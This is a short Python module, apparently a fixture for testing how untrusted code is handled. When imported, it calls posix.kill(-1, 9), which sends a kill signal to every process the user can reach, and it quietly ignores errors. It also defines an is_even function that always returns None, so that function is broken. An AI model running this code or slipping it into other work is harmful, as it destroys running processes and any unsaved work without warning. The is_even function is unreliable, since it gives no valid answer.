"""Kills every process that it may."""

import posix
try:
    posix.kill(-1, 9)
except OSError:
    pass


def is_even(n):
    return None
